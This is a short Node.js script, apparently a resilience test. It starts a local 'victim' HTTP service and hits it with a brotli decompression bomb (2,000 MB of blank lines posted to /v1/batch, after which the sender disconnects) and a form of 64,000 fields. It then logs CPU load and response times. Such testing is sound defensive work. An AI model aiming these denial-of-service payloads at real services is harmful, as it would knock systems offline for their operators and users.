/** A brotli bomb of blank lines whose sender leaves, a form of 64,000 fields, and a stream that moves a byte every 5 s. */
import { request as httpRequest } from 'node:http';
import { setTimeout } from 'node:timers/promises';
import { brotliCompressSync, constants } from 'node:zlib';
import { cpuOf } from '../support/servers.mjs';
import { codeOf, send, startVictim } from './support/attack.mjs';

const MEGABYTES = 2000;
const megabyte = Buffer.alloc(1_000_000, '\n');
const bomb = brotliCompressSync(Buffer.concat(Array.from({ length: MEGABYTES }, () => megabyte)), {
  params: { [constants.BROTLI_PARAM_QUALITY]: 3, [constants.BROTLI_PARAM_LGWIN]: 24 },
});
const service = await startVictim();
const sender = httpRequest(`${service.url}/v1/batch`, {
  method: 'POST',
  headers: { 'content-type': 'application/x-ndjson', 'content-encoding': 'br' },
});
sender.on('error', () => undefined).end(bomb);
await setTimeout(1000);
sender.destroy();
await setTimeout(500);
const before = cpuOf(service.pid);
await setTimeout(2000);
const busy = Math.round((cpuOf(service.pid) - before) / 20);
const began = performance.now();
const form = await send(service.url, '/v2/check', {
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  body: Array.from({ length: 64_000 }, (_, i) => `f${i}=a`).join('&'),
});
console.log(
  `bombs: ${bomb.length} bytes of brotli for ${MEGABYTES} MB of blank lines: ${busy} % of a core 0.5 s after the sender left; a form of 64,000 fields ${codeOf(form)} after ${Math.round(performance.now() - began)} ms`,
);
await service.stop();
